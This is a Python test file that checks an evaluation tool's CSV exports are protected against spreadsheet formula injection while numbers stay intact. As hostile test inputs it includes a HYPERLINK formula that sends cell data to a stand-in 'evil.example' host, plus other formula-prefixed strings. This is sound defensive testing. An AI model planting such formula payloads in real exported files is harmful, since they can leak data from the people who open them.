"""The CSV tables people open in a spreadsheet (evaluate's summary.csv, compare's tables) are OWASP
formula-neutralised by the one helper `wikihowagent.csvcells`; numbers stay numbers and readers undo it."""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path

import pandas as pd

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fixtures" / "alignment"))
from builders import FORMULA_START as DANGER  # noqa: E402
from builders import is_number as _number

from wikihowagent.csvcells import neutralise, people_frame, read_people_csv, unneutralise  # noqa: E402
from wikihowagent.scores.summary import load_run_scores, summarize, write_summary  # noqa: E402


def test_numbers_are_not_formulas_and_everything_round_trips():
    for s in ["-0.16", "+3", "-1", "1e-05", "-.5", "-2.5E+3"]:
        assert neutralise(s) == s and neutralise("'" + s) == "'" + s  # a number (even after an apostrophe) is kept
    for s in ["-2+3", "=1", "@SUM(A1)", "+cmd", "-", "- 1", "\t-1", "-1,5", "=-1", "'-2+3", "''=x"]:
        assert neutralise(s).startswith("'"), s
    for s in ["-0.16", "'-0.16", "-2+3", "'-2+3", "''-2+3", "=x", "'", "''", "", "a=b", "-", "'-", "\r=1", "1e5"]:
        assert unneutralise(neutralise(s)) == s, s


def test_summary_csv_neutralises_hostile_run_and_rubric_names_keeps_numbers(tmp_path):
    run, rubric = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)"
    rows = [
        {
            "conversation_id": f"c{i}",
            "tutorial_id": f"t{i}",
            "run": run,
            "domain": "-Health",
            "metrics": {rubric: v, "Clarity": 5 - v},
        }
        for i, v in enumerate([1.0, 2.0, 4.0, 5.0])
    ]
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / "scores.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    low = [
        {**r, "conversation_id": f"d{i}", "run": "-low", "metrics": {rubric: -0.16 * (i + 1), "Clarity": 1.0}}
        for i, r in enumerate(rows)
    ]  # a metric with negative values (a difference, a gain)
    (tmp_path / "s").mkdir()
    (tmp_path / "s" / "scores.jsonl").write_text("".join(json.dumps(r) + "\n" for r in low))
    runs = [
        load_run_scores(run, "+label", tmp_path / "r" / "scores.jsonl"),
        load_run_scores("-low", "-low", tmp_path / "s" / "scores.jsonl"),
    ]
    summary = summarize(runs, [rubric, "Clarity"])
    write_summary(summary, tmp_path / "out")
    with open(tmp_path / "out" / "summary.csv", newline="", encoding="utf-8") as fh:
        table = list(csv.reader(fh))
    for row in table:
        for c in row:
            assert _number(c) or not c.startswith(DANGER), c
    assert any(c.startswith("-") and _number(c) for row in table for c in row)  # e.g. the mean -0.4 is a number
    back = read_people_csv(tmp_path / "out" / "summary.csv")
    assert f"{rubric} mean" in back[0]
    assert {r[back[0].index("run")] for r in back[1:]} >= {run, "-low"}
    assert {r[back[0].index("label")] for r in back[1:]} >= {"+label", "-low"}
    assert pd.read_csv(tmp_path / "out" / "summary.csv")[f"'{rubric} mean"].dtype.kind == "f"


def test_people_csv_of_compare_and_judge_check_tables(tmp_path):
    from wikihowagent.csvcells import people_csv

    df = pd.DataFrame({"run_a": ["=a", "'=b", "-0.5", "ok"], "p": [-0.25, 0.5, 1.0, 0.0]})
    people_csv(df, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_text()
    assert "'=a" in text and "''=b" in text and "\n-0.5," in text and ",-0.25" in text
    assert [r[0] for r in read_people_csv(tmp_path / "t.csv")[1:]] == ["=a", "'=b", "-0.5", "ok"]
    assert people_frame(df).equals(df.assign(run_a=["'=a", "''=b", "-0.5", "ok"]))


def test_evaluate_by_domain_and_persona_tables_are_neutralised(tmp_path):
    import shutil

    from typer.testing import CliRunner

    from wikihowagent.cli import app

    run = tmp_path / "=HYPERLINK(1)"
    shutil.copytree(Path(__file__).resolve().parents[1] / "fixtures" / "evaluation" / "run_small", run)
    meta = json.loads((run / "run.json").read_text())
    (run / "run.json").write_text(json.dumps({**meta, "name": "=HYPERLINK(1)"}))
    for by, name in (("domain", "by_domain.csv"), ("persona", "by_persona.csv")):
        res = CliRunner().invoke(
            app,
            [
                "evaluate",
                str(run),
                "--no-judge",
                "--metrics",
                "Completion",
                "--no-figures",
                "--by",
                by,
                "--out",
                str(tmp_path / by),
            ],
        )
        assert res.exit_code == 0, res.output
        with open(tmp_path / by / name, newline="", encoding="utf-8") as fh:
            table = list(csv.reader(fh))
        for row in table:
            for c in row:
                assert _number(c) or not c.startswith(DANGER), (name, c)
        back = read_people_csv(tmp_path / by / name)
        assert "=HYPERLINK(1)" in {r[back[0].index("run")] for r in back[1:]}, back
